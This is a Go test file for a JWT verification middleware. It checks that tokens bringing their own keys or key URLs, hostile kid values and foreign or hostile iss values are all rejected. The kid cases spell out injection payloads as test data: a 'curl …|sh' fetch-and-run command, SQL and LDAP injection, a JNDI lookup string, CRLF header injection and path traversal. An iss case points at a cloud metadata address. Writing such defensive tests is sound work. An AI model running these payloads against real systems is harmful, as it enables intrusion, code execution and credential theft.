package middleware_test

import (
	"crypto/ecdsa"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/bearerguard/bearerguard/oauthtest"
	"github.com/bearerguard/bearerguard/verify"
)

// A token does not bring the key that it is to be verified with, nor the place where
// that is found (RFC 8725 §3.10). The signatures are good ones, of the key brought.
func TestHostileTokenBringsItsOwnKey(t *testing.T) { // C12, C23
	x := newTarget(t, nil)
	key := stranger()
	jwk := "{" + ecMembers("P-256", key) + `,"kid":"` + marker + `"}`
	der := certificate(key)
	thumbprint := sha256.Sum256(der)
	brought := map[string]string{
		"jwk":      jwk,
		"jku":      strconv.Quote(x.trap.url),
		"x5u":      strconv.Quote(x.trap.url),
		"x5c":      `["` + base64.StdEncoding.EncodeToString(der) + `"]`,
		"x5t":      `"` + marker + `AAAAAAAAAAAAAAAAA"`,
		"x5t#S256": `"` + base64url.EncodeToString(thumbprint[:]) + `"`,
		"keys":     "[" + jwk + "]",
		"jwks":     `{"keys":[` + jwk + `]}`,
		"jwks_uri": strconv.Quote(x.trap.url),
	}
	everything := []string{}
	for name, value := range brought {
		everything = append(everything, name, value)
	}
	var rows []row
	for kid, want := range map[string]verdict{
		`"p256"`:                  badSignature,
		`"` + marker + `"`:        noSuchKey.fetching(),
		strconv.Quote(x.trap.url): noSuchKey.fetching(),
		"":                        badSignature.fetching(), // any key may have been meant, one published just now too
	} {
		for name, value := range brought {
			rows = append(rows, row{name + ", kid " + strings.ReplaceAll(kid, "/", "_"),
				compact(header("p256", "kid", kid, name, value), x.payload(), ecdsaBy(key)), want})
		}
		rows = append(rows, row{"all of them, kid " + strings.ReplaceAll(kid, "/", "_"),
			compact(header("p256", append(everything, "kid", kid)...), x.payload(), ecdsaBy(key)), want})
	}
	rows = append(rows,
		row{"the place of the keys as iss as well", compact(header("p256", "jku", strconv.Quote(x.trap.url)), x.payload("iss", strconv.Quote(x.trap.url)), ecdsaBy(key)), wrongIssuer},
		row{"the place of the keys among the claims", compact(header("p256"), x.payload("jwks_uri", strconv.Quote(x.trap.url), "jku", strconv.Quote(x.trap.url)), ecdsaBy(key)), badSignature},
		row{"jwk of the wrong kind", compact(header("p256", "jwk", `7`), x.payload(), ecdsaBy(key)), badSignature},
		row{"and the issuer's own token, whatever keys it names, is not worse for it", x.withHeader(everything...), accepted},
	)
	x.attack(t, rows)
}

func certificate(key *ecdsa.PrivateKey) []byte {
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: marker}, NotAfter: time.Now().Add(time.Hour)}
	return must(x509.CreateCertificate(rand.Reader, template, template, key.Public(), key))
}

// kid is compared, and nothing else is done with it (RFC 8725 §3.10): no path, no
// query, no line of a log.
func TestHostileKid(t *testing.T) { // C13, C23
	x := newTarget(t, nil)
	quoted := func(text string) string { return `"` + text + `"` }
	var rows []row
	for name, odd := range map[string]struct {
		kid  string
		want verdict
	}{
		"another name":             {quoted(marker), noSuchKey.fetching()},
		"in other case":            {quoted("P256"), noSuchKey.fetching()},
		"with a space behind":      {quoted("p256 "), noSuchKey.fetching()},
		"a path":                   {quoted("../../../../../../dev/null#" + marker), noSuchKey.fetching()},
		"a path to a key":          {quoted("/etc/ssl/certs/" + marker + ".pem"), noSuchKey.fetching()},
		"a URL":                    {quoted(x.trap.url), noSuchKey.fetching()},
		"SQL":                      {quoted(marker + "' UNION SELECT 'secret' --"), noSuchKey.fetching()},
		"LDAP":                     {quoted("*)(uid=*))(|(uid=" + marker), noSuchKey.fetching()},
		"a shell's":                {quoted("p256;curl " + x.trap.url + "|sh"), noSuchKey.fetching()},
		"a template's":             {quoted("${jndi:ldap://" + marker + "}{{7*7}}%s%n"), noSuchKey.fetching()},
		"with NUL":                 {quoted(`p256\u0000` + marker), noSuchKey.fetching()},
		"with CR LF":               {quoted(marker + `\r\nSet-Cookie: a=b\r\n\r\n<html>`), noSuchKey.fetching()},
		"with quotes":              {quoted(marker + `\", error=\"`), noSuchKey.fetching()},
		"a homoglyph":              {quoted("р256"), noSuchKey.fetching()}, // Cyrillic er
		"1024 bytes":               {quoted(marker + strings.Repeat("k", 1024-len(marker))), noSuchKey.fetching()},
		"1025 bytes":               {quoted(marker + strings.Repeat("k", 1025-len(marker))), malformed},
		"1024 bytes, 6144 written": {quoted(strings.Repeat(`\u006b`, 1024)), noSuchKey.fetching()},
		"1 MB":                     {quoted(strings.Repeat("k", 1<<20)), tooLong},
		"empty":                    {`""`, malformed},
		"null":                     {`null`, malformed},
		"a number":                 {`256`, malformed},
		"a bool":                   {`true`, malformed},
		"an array":                 {`["p256"]`, malformed},
		"an object":                {`{"kid":"p256"}`, malformed},
		"an object of operators":   {`{"$ne":null}`, malformed},
	} {
		rows = append(rows, row{name, compact(header("p256", "kid", odd.kid), x.payload(), ownKeys()["p256"].sign), odd.want})
	}
	rows = append(rows, row{"and the kid itself, however it is written", x.withHeader("kid", `"\u0070256"`), accepted})
	x.attack(t, rows)
}

// Another issuer's key does not vouch for this one's tokens, nor for itself.
func TestHostileTokenOfAnotherIssuer(t *testing.T) { // C21, C29
	x := newTarget(t, nil)
	other := newTarget(t, nil).issuer
	theirs := func(changes ...string) string { // by a key that both publish, so that iss alone tells
		return x.withClaims(append(changes, "iss", strconv.Quote(other.URL))...)
	}
	x.attack(t, []row{
		{"as it is", other.Token("billing", "invoices.read"), wrongIssuer},
		{"with a kid of ours and a good signature", theirs(), wrongIssuer},
		{"and our iss as well, in other claims", theirs("issuer", strconv.Quote(x.issuer.URL), "ISS", strconv.Quote(x.issuer.URL)), wrongIssuer},
	})
	if x.fetches() != 1 {
		t.Errorf("%d fetches", x.fetches())
	}
}

// With several issuers the iss of a token picks one of those that are listed, and
// leads nowhere else.
func TestHostileIssuerLeadsNowhere(t *testing.T) { // C21, C23
	x := newTarget(t, nil)
	second := newTarget(t, nil)
	tokens, err := verify.ByIssuer(x.issuer.Verifier(), second.issuer.Verifier())
	if err != nil {
		t.Fatal(err)
	}
	x.serve(t, tokens)
	before, others := x.fetches(), second.fetches()
	x.fetches = func() int { return x.issuer.Fetches() - before + second.issuer.Fetches() - others }
	var rows []row
	for _, iss := range []string{x.trap.url, "http://" + marker + "@" + strings.TrimPrefix(x.issuer.URL, "http://"), "file:///" + marker, "", "http://169.254.169.254/latest/" + marker} {
		rows = append(rows, row{"iss " + strings.ReplaceAll(iss, "/", "_"), x.withClaims("iss", strconv.Quote(iss)), wrongIssuer})
	}
	rows = append(rows,
		row{"no iss", x.withClaims("iss", ""), wrongIssuer},
		row{"iss an array of both", x.withClaims("iss", fmt.Sprintf("[%q,%q]", x.issuer.URL, second.issuer.URL)), wrongIssuer},
		row{"the key that one issuer alone has, under the other's iss",
			compact(header("p256"), second.payload("scope", `"`+marker+`"`), ecdsaBy(stranger())), badSignature},
		row{"one issuer's own token under the other's iss", second.issuer.Token("billing", "invoices.read", oauthtest.Claim("iss", x.issuer.URL)), noSuchKey.fetching()},
	)
	x.attack(t, rows)
}

// Redirects and answers of a key server are its own affair: a token of an unknown kid
// cannot make the API ask anything but the URL that discovery found.
func TestHostileKidAsksOneURL(t *testing.T) { // C23
	x := newTarget(t, nil)
	var asked atomic.Int64
	keys := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		if r.URL.String() != "/keys" || r.Method != http.MethodGet {
			t.Errorf("asked for %s %s", r.Method, r.URL)
		}
		_, _ = io.WriteString(w, `{"keys":[`+ownKeys()["p256"].jwk+`]}`)
	}))
	t.Cleanup(keys.Close)
	x.issuer.Answer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = fmt.Fprintf(w, `{"issuer":%q,"jwks_uri":%q}`, x.issuer.URL, keys.URL+"/keys")
	}))
	x.serve(t, x.issuer.Verifier())
	x.fetches = func() int { return int(asked.Load()) }
	for _, kid := range []string{"?" + marker, "/" + marker, "#" + marker, x.trap.url} {
		x.check(t, "GET /invoices", "Authorization: Bearer "+x.withHeader("kid", strconv.Quote(kid))+"\r\n", "", "", noSuchKey.fetching())
	}
}
